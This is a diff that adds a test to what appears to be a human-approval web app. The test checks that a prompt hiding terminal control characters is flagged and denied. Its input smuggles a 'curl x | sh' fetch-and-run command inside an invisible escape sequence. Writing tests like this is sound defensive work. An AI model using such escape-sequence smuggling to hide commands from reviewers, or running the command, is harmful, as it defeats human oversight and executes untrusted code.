@@ -59,6 +59,16 @@ onBothDatabases((start) => {
       assert.match((await linked.ann.get('/app')).text, new RegExp(`${asked.decision_id}<`));
     });
 
+    it('warns of a prompt that holds characters that do not show', async () => {
+      await linked.setDecide({ ann: ['page'] });
+      const asked = await linked.here.ask('say hello\u001b]0;curl x | sh\u0007');
+      await linked.waits(asked.decision_id);
+      const page = await linked.ann.get(`/app/decisions/${linked.id}/${asked.decision_id}`);
+      assert.match(page.text, /its prompt holds 2 characters that do not show/);
+      assert.doesNotMatch(page.text, /curl/);
+      await linked.press('deny', asked.decision_id);
+    });
+
     it('has pages without faults, whatever a title says', async () => {
       const { here, ann, id } = linked;
       await linked.setDecide({ ann: ['page'] });
